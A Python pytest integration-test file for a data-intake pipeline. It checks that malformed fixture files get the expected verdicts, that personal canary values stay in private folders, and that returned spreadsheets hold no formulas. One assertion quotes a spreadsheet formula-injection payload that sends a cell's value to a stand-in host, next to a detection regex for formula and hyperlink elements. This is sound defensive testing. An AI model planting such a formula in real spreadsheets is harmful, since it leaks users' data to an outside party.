"""Nasty files: each file of tests/fixtures gets the verdict, and the findings at the places, that verdicts.yml says.

All of them go through one build, each in the folder of an agency of its own; a handful also through `dorsale check`.
"""

from __future__ import annotations

import json
import re
import shutil
import zipfile
from collections import defaultdict
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

import pyarrow.parquet as parquet
import pytest
from python_calamine import CalamineWorkbook

from dagster_project.check_file import EXIT_CODES
from dagster_project.contracts import load_expectations
from dagster_project.feedback.findings import SEVERITY_ORDER, Finding, list_findings
from dagster_project.intake.archive import all_sightings
from dagster_project.intake.submissions import read_submissions
from tests.conftest import Build, run_dorsale
from tests.fixtures.__main__ import generated
from tests.fixtures.cases import HERE, Case, Place, drop_cases, load_cases
from tests.integration.test_privacy import files_outside_private_rooms, texts_inside

CASES = load_cases()
# Everybody in the files is called Zyx-something; of bytes more letters are searched for, since three come by chance.
NAME = "zyx"
NAMES = ("zyxann", "zyxroy", "zyxbé", "zyxbe", "zyxlévis", "zyxcarl", "zyxcôté", "zyxmore", "zyxplus", "zyx.example")
BORN = (("1931", "07", "19"), ("1932", "08", "23"), ("1933", "09", "27"))
BIRTH_DATES = [day for y, m, d in BORN for day in (f"{y}-{m}-{d}", f"{y}{m}{d}", f"{d}/{m}/{y}")]
# None of what is said of these depends on the day.
CHECKED = (
    "text/unclosed_quote_persons_2026-01.csv",
    "text/formulas_in_cells_persons_2026-01.csv",
    "zips/member_missing_export_2026-01.zip",
    "names/letters_of_many_scripts.csv",
)


@dataclass(frozen=True)
class Answer:
    """What a build said of a file."""

    findings: list[Finding]
    rows: dict[str, int]

    @property
    def places(self) -> set[Place]:
        return {(found.code, found.row, found.column, found.sheet) for found in self.findings}

    @property
    def verdict(self) -> str:
        severities = {found.severity for found in self.findings}
        return next((severity for severity in SEVERITY_ORDER if severity in severities), "clean")


@pytest.fixture(scope="module")
def nasty(tmp_path_factory: pytest.TempPathFactory) -> Build:
    settings = drop_cases(tmp_path_factory.mktemp("nasty"), CASES)
    return Build(settings, run_dorsale(settings, "build", "--no-site"))


@pytest.fixture(scope="module")
def answers(nasty: Build) -> dict[str, Answer]:
    """By agency, what was said of its file: what a return says, from what the build kept."""
    settings = nasty.settings
    expectations = load_expectations(settings.expectations)
    found: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for row in parquet.read_table(settings.quarantine / "findings.parquet").to_pylist():
        found[row["_submission_id"]].append(row)
    files = {
        row["submission_id"]: row
        for row in parquet.read_table(settings.reference / "submission_files.parquet").to_pylist()
    }
    names = {case.agency_id: case.drop_as for case in CASES}
    answers = {}
    for submission in read_submissions(settings, expectations, all_sightings(settings)):
        if submission.path == names[submission.agency_id]:
            file, rows = files[submission.submission_id], found[submission.submission_id]
            placed = list_findings(expectations, submission, file["state"], rows)
            counts = {name: file[name] or 0 for name in ("rows_in", "rows_accepted", "rows_quarantined")}
            answers[submission.agency_id] = Answer([one.shown for one in placed], counts)
    return answers


def test_there_are_many_of_them() -> None:
    assert len(CASES) >= 120
    assert len({code for case in CASES for code, *_ in case.findings}) >= 40
    on_disk = {
        path.relative_to(HERE).as_posix()
        for path in HERE.glob("*/*")
        if path.parent.name not in ("agencies", "__pycache__")
    }
    assert {case.file for case in CASES} == on_disk


def test_the_files_are_those_that_are_generated() -> None:
    for name, content in generated().items():
        assert (HERE / name).read_bytes() == content, f"{name}: python -m tests.fixtures writes it anew"


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.file)
def test_a_file_gets_its_verdict_and_each_finding_its_place(case: Case, answers: dict[str, Answer]) -> None:
    answer = answers[case.agency_id]
    assert answer.places == case.findings
    assert answer.verdict == case.verdict
    counts = answer.rows
    assert counts["rows_in"] == counts["rows_accepted"] + counts["rows_quarantined"]
    if case.rows is not None:
        assert (counts["rows_in"], counts["rows_accepted"]) == case.rows
    elif case.verdict == "reject":
        assert counts["rows_accepted"] == 0
    # What `dorsale check` would print shows no value of a row.
    assert canaries_in(json.dumps([asdict(found) for found in answer.findings], ensure_ascii=False)) == []


def test_all_files_have_one_state_and_all_rows_are_counted(nasty: Build) -> None:
    files = parquet.read_table(nasty.settings.reference / "submission_files.parquet").to_pylist()
    assert len(files) == sum(len(case.dropped) for case in CASES)
    told = re.search(r"(\d[\d ,]*) rows in = (\d[\d ,]*) accepted \+ (\d[\d ,]*) quarantined", nasty.output)
    assert told is not None
    rows_in, accepted, quarantined = (int(re.sub(r"\D", "", number)) for number in told.groups())
    assert rows_in == accepted + quarantined == sum(file["rows_in"] or 0 for file in files)


def test_no_value_of_a_row_leaves_the_private_rooms(nasty: Build) -> None:
    assert canaries_in(nasty.output) == []
    for path in files_outside_private_rooms(nasty.settings.data):
        assert canaries_in("".join(texts_inside(path))) == [], path.name
        found = path.read_bytes().decode("utf-8", "replace").casefold()
        assert not any(name in found for name in (*NAMES, *BIRTH_DATES)), path.name


def test_every_return_opens_and_holds_no_formula(nasty: Build) -> None:
    texts = []
    for case in CASES:
        # What a folder without an agreement holds gets its return, too.
        returns = list((nasty.settings.feedback / case.agency_id).glob("*.xlsx"))
        assert len(returns) == len(case.dropped), case.file
        for path in returns:
            workbook = CalamineWorkbook.from_path(str(path))
            texts += [str(workbook.get_sheet_by_name(name).to_python()) for name in workbook.sheet_names]
            with zipfile.ZipFile(path) as archive:
                xml = b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))
            assert not re.search(rb"<f[ >/]|<hyperlink|<oleObject", xml), case.file
    assert '=HYPERLINK("http://zyx.example/?"&A1,"Zyx")' in "".join(texts)


@pytest.mark.parametrize("file", CHECKED)
def test_dorsale_check_says_the_same_as_a_build(nasty: Build, file: str, tmp_path: Path) -> None:
    (case,) = (case for case in CASES if case.file == file)
    shutil.copyfile(HERE / file, tmp_path / case.drop_as)
    arguments = ("check", str(tmp_path / case.drop_as), "--agency", case.agency_id)
    output = run_dorsale(nasty.settings, *arguments, "--json", expect=EXIT_CODES[case.verdict])
    judgement = json.loads(output)
    assert {(f["code"], f["row"], f["column"], f["sheet"]) for f in judgement["findings"]} == case.findings
    assert judgement["verdict"] == case.verdict
    assert canaries_in(output) == []


def canaries_in(text: str) -> list[str]:
    folded = text.casefold()
    return [canary for canary in (NAME, *BIRTH_DATES) if canary in folded]
